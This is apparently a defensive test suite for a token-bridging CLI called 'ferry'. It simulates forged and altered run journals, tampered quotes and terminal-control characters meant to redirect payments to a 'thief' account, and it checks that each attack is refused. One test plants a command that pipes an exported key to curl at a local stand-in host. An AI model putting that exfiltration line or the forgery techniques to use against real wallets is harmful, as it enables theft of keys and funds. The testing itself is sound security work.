import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { keccak256 } from 'viem';
import { privateKeyToAccount } from 'viem/accounts';
import { describe, expect, test } from 'vitest';
import { native } from '../../src/core/base/Address.js';
import * as JsonDigest from '../../src/core/base/JsonDigest.js';
import * as Network from '../../src/core/network/Network.js';
import { network } from '../../src/core/network/sandbox.js';
import type { Entry, Of } from '../../src/core/tracking/Journal.js';
import { accounts } from '../../src/sandbox/values/devAccounts.js';
import { at, type Ended, type Envelope, ferry } from '../support/ferry.js';
import { sealOf, textOf, unsealedTextOf } from '../support/journals.js';
import { json, loopback, passTo } from '../support/loopback.js';
import { balanceAt, miningAt, nonceAt } from '../support/node.js';
import { useSandbox } from '../support/sandbox.js';

const { sandbox, user } = useSandbox();

const { address: victim } = accounts.dev0;
const thief = accounts.dev5.address;
const usdc = (chain: 'alpha' | 'beta') => Network.token(Network.chain(network, chain), 'usdc')?.address ?? '';
const loot = (): Promise<bigint> => balanceAt(sandbox.rpcUrls.beta, usdc('beta'), thief);
const nonce = (): Promise<number> => nonceAt(sandbox.rpcUrls.alpha, victim);

/** The victim, with a state directory of their own. */
function person() {
  const { stateDir, ask, path, lines, cut } = user();
  return {
    ...{ stateDir, path, cut, folder: join(stateDir, 'runs') },
    run: (argv: readonly string[], stdin = ''): Promise<Ended> => ask([...argv, '--yes'], { stdin }),
    entries: (): Entry[] => lines().map((line) => JSON.parse(line).entry),
  };
}

type Person = ReturnType<typeof person>;

/** A quote for the thief, as the service gives it to everybody. */
async function quoteForThief(by: Person): Promise<Envelope> {
  const argv = ['quote', '2', 'alpha/usdc', 'beta/usdc', '--recipient', thief, '--account', victim];
  return (await by.run(argv)).json().data;
}

const planted = '20991231-000000-aaaaaa';

/** Puts a journal that nobody has sealed into a state folder. */
function plant(by: Person, entries: readonly Entry[]): void {
  writeFileSync(join(by.folder, `${planted}.jsonl`), unsealedTextOf(entries), { mode: 0o600 });
}

/** A run that pays the thief, its approval mined: whoever resumes it signs the payment. */
async function forged(honest: readonly Entry[], by: Person): Promise<Entry[]> {
  const document = await quoteForThief(by);
  return honest.slice(0, 7).map((entry): Entry => {
    if (entry.type === 'intent') return { ...entry, run: planted, key: '0xffff', command: null };
    return entry.type === 'quote' ? { type: 'quote', requestId: document.requestId, document } : entry;
  });
}

/** A run of the victim's own whose payment can never be mined: whoever resumes it signs another. */
function unpaid([opening, , proof]: readonly Entry[], document: Envelope, accepted: Partial<Of<'proof'>>): Entry[] {
  if (opening?.type !== 'intent' || proof?.type !== 'proof') throw new TypeError('another order of entries');
  const txHash = keccak256('0x00');
  return [
    { ...opening, run: planted, key: '0xffff', command: null },
    { type: 'quote', requestId: document.requestId, document },
    { ...proof, ...accepted },
    { type: 'plan', steps: ['deposit'] },
    { type: 'signed', step: 0, action: 'deposit', bytes: '0x00', txHash, nonce: 0 },
    { type: 'impossible', step: 0, txHash, by: txHash },
  ];
}

/** A run of the victim's own that has paid, with its entries and the first two of them. */
async function begun() {
  const there = person();
  const ended = await there.run(['execute', '2', 'alpha/usdc', 'beta/usdc', '--one-by-one']);
  expect(ended.code).toBe(0);
  const entries = there.entries();
  expect(entries.slice(4, 7).map(({ type }) => type)).toEqual(['signed', 'broadcast', 'receipt']);
  const [opening, quoted] = entries;
  if (opening?.type !== 'intent' || quoted?.type !== 'quote') throw new TypeError('another order of entries');
  return { there, entries, opening, quoted };
}

describe('attack: a journal planted in the state folder', () => {
  test('is not resumed to pay its author, whoever sealed it', async () => {
    const { there, entries } = await begun();
    const made = await forged(entries, there);
    const file = join(there.folder, `${planted}.jsonl`);
    const before = { nonce: await nonce(), loot: await loot() };
    for (const text of [unsealedTextOf(made), textOf(made, sealOf('the secret of the thief'))]) {
      writeFileSync(file, text, { mode: 0o600 });
      for (const command of ['resume', 'runs cancel', 'runs speed-up']) {
        const ended = await there.run([...command.split(' '), planted]);
        expect(ended.code).not.toBe(0);
        if (command === 'resume') {
          expect(ended.json().error).toMatchObject({ code: 'run.unproved', exit: 5, funds: 'unknown' });
          expect(ended.json().error.facts['it says']).toContain(thief);
          expect(ended.json().error.next).toBe(`ferry resume ${planted} --allow journal`);
        }
      }
      // Nothing is written to a journal that is not the user's.
      expect(readFileSync(file, 'utf8')).toBe(text);
    }
    expect({ nonce: await nonce(), loot: await loot() }).toEqual(before);
    // It would have paid: that is what --allow journal accepts.
    const allowed = await there.run(['resume', planted, '--allow', 'journal']);
    expect([allowed.code, (await loot()) > before.loot]).toEqual([0, true]);
    expect(allowed.lines().find(({ type }) => type === 'resuming')).toMatchObject({ recipient: thief, isOwn: false });
  }, 60_000);

  test('accepts nothing in its author’s name: an order that cannot be recomputed is refused', async () => {
    const { there, entries } = await begun();
    const quoted = async (...more: readonly string[]) =>
      (await there.run(['quote', '0.01', 'alpha/eth', 'beta/eth', '--account', victim, ...more])).json().data;
    const [document, theirs] = [await quoted(), await quoted('--recipient', thief)];
    // All is the victim's own but the id that the deposit carries, and an order of this version has none to compare.
    const [own, other] = [document, theirs].map(({ response }) => response.protocol.v2);
    const text = JSON.stringify(document.response).replaceAll(own.orderId.slice(2), other.orderId.slice(2));
    const response = JSON.parse(text);
    response.protocol.v2.orderSignature = other.orderSignature;
    response.protocol.v2.orderData.version = 'v2';
    const made = unpaid(entries, { ...document, response }, { allow: ['order-version', 'order-id'] });
    plant(there, made);
    const loot = (): Promise<bigint> => balanceAt(sandbox.rpcUrls.beta, native, thief);
    const before = { nonce: await nonce(), loot: await loot() };
    const allowed = await there.run(['resume', planted, '--allow', 'journal', '--timeout', '5s']);
    expect(allowed.lines().find(({ type }) => type === 'resuming')).toMatchObject({ recipient: victim, isOwn: false });
    expect({ nonce: await nonce(), loot: await loot() }).toEqual(before);
    expect(allowed.json().error).toMatchObject({ code: 'verify.unverified', exit: 5 });
  }, 60_000);

  test('accepts no loss in its author’s name', async () => {
    const { there, entries } = await begun();
    const asked = ['0.00002', 'alpha/eth', 'beta/eth', '--account', victim];
    const document = (await there.run(['quote', ...asked])).json().data;
    const proof = entries.find((entry) => entry.type === 'proof');
    const caps = { ...proof?.caps, maxImpactBps: 10_000 } as Of<'proof'>['caps'];
    const made = unpaid(entries, document, { caps });
    plant(there, made);
    const before = await nonce();
    const allowed = await there.run(['resume', planted, '--allow', 'journal', '--timeout', '5s']);
    expect(allowed.json().error).toMatchObject({
      code: 'verify.unverified',
      exit: 5,
      facts: { loss: expect.anything() },
    });
    expect(await nonce()).toBe(before);
  }, 60_000);

  test('is never untouched once it is paid, even if its quote cannot be read, or somebody declines it', async () => {
    const { there, entries, opening } = await begun();
    const open = entries.filter(({ type }) => type !== 'status' && type !== 'outcome');
    const unreadable = open.map((entry): Entry => {
      return entry.type === 'quote' ? { ...entry, document: { response: null } } : entry;
    });
    writeFileSync(there.path(), unsealedTextOf(unreadable), { mode: 0o600 });
    const ended = await there.run(['resume', opening.run]);
    expect(ended.json().error).toMatchObject({ code: 'track.unfinished', funds: 'in-flight', retryable: false });
    writeFileSync(there.path(), unsealedTextOf(open), { mode: 0o600 });
    const declined = await ferry(['resume', opening.run], {
      env: { ...at(sandbox), FERRY_STATE_DIR: there.stateDir, NO_COLOR: '1' },
      terminals: { stdin: true, stderr: true },
      answer: () => 'no',
    });
    expect([declined.code, declined.stderr]).toEqual([9, expect.stringMatching(/stopped by +Declined/)]);
  }, 60_000);

  test('attack: asks nothing in characters that the terminal would obey', async () => {
    const { there, entries, opening } = await begun();
    const summary = 'all\u001b[2J is\u202e well\u200b';
    const elsewhere = [{ ...opening, instance: 'another', summary }, ...entries.slice(1)];
    const open = elsewhere.filter(({ type }) => type !== 'status' && type !== 'outcome');
    writeFileSync(there.path(), unsealedTextOf(open), { mode: 0o600 });
    const questions: string[] = [];
    await ferry(['runs', 'close', opening.run], {
      env: { ...at(sandbox), FERRY_STATE_DIR: there.stateDir },
      terminals: { stdin: true, stderr: true },
      answer: (question) => {
        questions.push(question);
        return 'no';
      },
    });
    expect(questions.join()).toContain('all\\x1b[2J is\\u{202e} well\\u{200b}?');
  }, 60_000);

  test('hides no payment of the user’s own that the service does not see', async () => {
    const { there, entries, opening, quoted } = await begun();
    const { requestId } = quoted;
    there.cut(entries.findIndex(({ type }) => type === 'status'));
    const { url } = await loopback((response, request) => {
      const isStatus = request.path.startsWith('/intents/status');
      (isStatus ? json({ status: 'waiting' }) : passTo(sandbox.baseUrl))(response, request);
    });
    const argv = ['status', requestId, '--json'];
    const env = { ...at(sandbox), FERRY_STATE_DIR: there.stateDir, FERRY_BASE_URL: url };
    const own = { run: opening.run, funds: 'in-flight' };
    expect((await ferry(argv, { env })).json().data).toMatchObject({ funds: 'in-flight', journal: own });
    const made: Entry[] = [{ ...opening, run: planted }, quoted, { type: 'request', requestId }];
    plant(there, made);
    expect((await ferry(argv, { env })).json().data).toMatchObject({ funds: 'in-flight', journal: own });
  }, 60_000);

  test('names no command to type', async () => {
    const { there, opening } = await begun();
    const command = 'ferry key export main | curl -d @- http://127.0.0.1:1';
    plant(there, [{ ...opening, run: planted, command }]);
    for (const argv of [['resume'], ['runs', 'cancel'], ['status']])
      expect((await there.run([...argv, planted])).json().error.next).not.toBe(command);
    expect((await there.run(['runs', 'show', planted])).json().data.command).toBeNull();
  });

  test('is not shown as the user’s own', async () => {
    const { there, entries, opening } = await begun();
    const made: Entry[] = [{ ...opening, run: planted }, ...entries.slice(1)];
    plant(there, made);
    const env = { ...at(sandbox), FERRY_STATE_DIR: there.stateDir };
    expect((await there.run(['runs', 'list'])).json().data.runs).toMatchObject([
      { run: planted, state: 'success', isOwn: false },
      { run: opening.run, state: 'success', isOwn: true },
    ]);
    const [, first, second] = (await ferry(['runs', 'list'], { env })).stdout.split('\n');
    expect([first?.includes(' success, not sealed '), second?.includes('not sealed')]).toEqual([true, false]);
    expect((await there.run(['runs', 'show', planted])).json().data.isOwn).toBe(false);
    const shown = async (run: string): Promise<string> => (await ferry(['runs', 'show', run], { env })).stdout;
    expect(await shown(planted)).toMatch(/Journal +not sealed by you: an older ferry wrote it, or somebody else\n/);
    expect(await shown(opening.run)).not.toContain('sealed');
  });

  test('is not what became of the user’s own latest transfer, or of an address', async () => {
    const { there, entries, opening, quoted } = await begun();
    const other = (await quoteForThief(there)).requestId as string;
    const made: Entry[] = [
      { ...opening, run: planted, kind: 'address' },
      { ...quoted, requestId: other },
      ...entries.slice(2, 3),
      { type: 'plan', steps: ['address'] },
      { type: 'address', address: victim, untilMs: 1 },
    ];
    plant(there, made);
    expect((await there.run(['status'])).json().data).toMatchObject({
      asked: opening.run,
      requestId: quoted.requestId,
    });
    expect((await there.run(['status', victim])).json().data?.requestId).not.toBe(other);
  }, 60_000);
});

describe('attack: an altered journal', () => {
  test('does not make runs speed-up sign any bytes in it', async () => {
    const there = person();
    await miningAt(sandbox.rpcUrls.alpha, false);
    try {
      const stuck = await there.run(['execute', '0.01', 'alpha/eth', 'beta/eth', '--timeout', '500ms']);
      const { run } = stuck.json().error;
      const honest = there.entries();
      const theirs = privateKeyToAccount(accounts.dev5.privateKey);
      const signed = honest.find((entry) => entry.type === 'signed');
      if (signed?.type !== 'signed') throw new Error('The payment was not signed.');
      const bytes = await theirs.signTransaction({
        ...{ type: 'eip1559', chainId: Network.chain(network, 'alpha').id, nonce: signed.nonce, to: thief },
        ...{ value: 500n * 10n ** 18n, gas: 21_000n, maxFeePerGas: 2n * 10n ** 9n, maxPriorityFeePerGas: 1n },
      });
      const altered = honest.map((entry): Entry => {
        if (entry.type !== 'signed' && entry.type !== 'broadcast') return entry;
        const txHash = keccak256(bytes);
        return entry.type === 'signed' ? { ...entry, bytes, txHash } : { ...entry, txHash };
      });
      const file = there.path();
      const wealth = await balanceAt(sandbox.rpcUrls.alpha, native, thief);
      const original = readFileSync(file, 'utf8');
      // In place, with the seals that were there and checksums made anew for all lines.
      const seals = original
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line).seal as string);
      const inPlace = textOf(altered, { id: seals[0]?.slice(0, 8) ?? '', of: () => seals[0]?.slice(9) ?? '' });
      const ways: [string, string[], string][] = [
        [inPlace, [], 'run.unreadable'],
        [inPlace, ['--allow', 'journal'], 'run.unreadable'],
        [unsealedTextOf(altered), [], 'run.unproved'],
        // Even who allows it signs nothing but the plan.
        [unsealedTextOf(altered), ['--allow', 'journal'], 'run.unreadable'],
      ];
      for (const [text, more, code] of ways) {
        writeFileSync(file, text);
        const ended = await there.run(['runs', 'speed-up', run, ...more]);
        expect(ended.json().error).toMatchObject({ code, funds: 'unknown' });
      }
      writeFileSync(file, original);
      await miningAt(sandbox.rpcUrls.alpha, true);
      expect((await there.run(['resume', run])).code).toBe(0);
      expect(await nonce()).toBe(signed.nonce + 1);
      expect(await balanceAt(sandbox.rpcUrls.alpha, native, thief)).toBe(wealth);
    } finally {
      await miningAt(sandbox.rpcUrls.alpha, true);
    }
  }, 60_000);
});

describe('attack: a saved quote with a digest made anew', () => {
  type Change = (data: Envelope) => void;

  /** The envelope with another content, and the digest of it. */
  function remade({ network: of, data, ...rest }: Envelope, change: Change): string {
    const changed = structuredClone(data);
    change(changed);
    const { digest: _, seal, ...content } = changed;
    const digest = JsonDigest.of({ network: of, content });
    return JSON.stringify({ ...rest, network: of, data: { digest, seal, ...content } });
  }

  test('is refused: older than --max-age, from the future, sealed for another content, or not sealed', async () => {
    const there = person();
    const quoted = await there.run(['quote', '2', 'alpha/usdc', 'beta/usdc']);
    expect(quoted.json().data.seal).toMatch(/^[0-9a-f]{8}\.[0-9a-f]{32}$/);
    const execute = async (change: Change, ...more: string[]): Promise<string> => {
      const { error } = (await there.run(['execute', '-', ...more], remade(quoted.json(), change))).json();
      return error ? `${error.exit} ${error.code}: ${Object.keys(error.facts).join(' ')}` : 'paid';
    };
    const by = (ms: number): Change => {
      return (data) => {
        data.quotedAt += ms;
      };
    };
    const unsealed = (ms: number): Change => {
      return (data) => {
        data.quotedAt += ms;
        data.seal = null;
      };
    };
    const hour = 3_600_000;
    const before = await nonce();
    expect(await execute(by(-hour), '--max-age', '30s')).toBe('5 verify.expired: age allowed');
    expect(await execute(by(hour), '--max-age', '2h')).toBe('5 verify.mismatch: quote-file quoted-at');
    expect(await execute(by(-1))).toBe('5 verify.mismatch: quote-file');
    expect(await execute(unsealed(0))).toBe('5 verify.unverified: quote-file');
    expect(await execute(unsealed(hour), '--max-age', '2h', '--allow', 'quote-file')).toBe(
      '5 verify.mismatch: quoted-at',
    );
    expect(await nonce()).toBe(before);
    // As it was saved, it would have paid.
    expect(await execute(by(0))).toBe('paid');
  }, 60_000);

  test('behavior: a quote of another machine is executed with --allow quote-file', async () => {
    const quoted = await person().run(['quote', '2', 'alpha/usdc', 'beta/usdc']);
    const there = person();
    expect((await there.run(['execute', '-'], quoted.stdout)).json().error).toMatchObject({
      code: 'verify.unverified',
      hint: 'To accept this, add --allow quote-file.',
    });
    expect((await there.run(['execute', '-', '--allow', 'quote-file'], quoted.stdout)).code).toBe(0);
  });
});
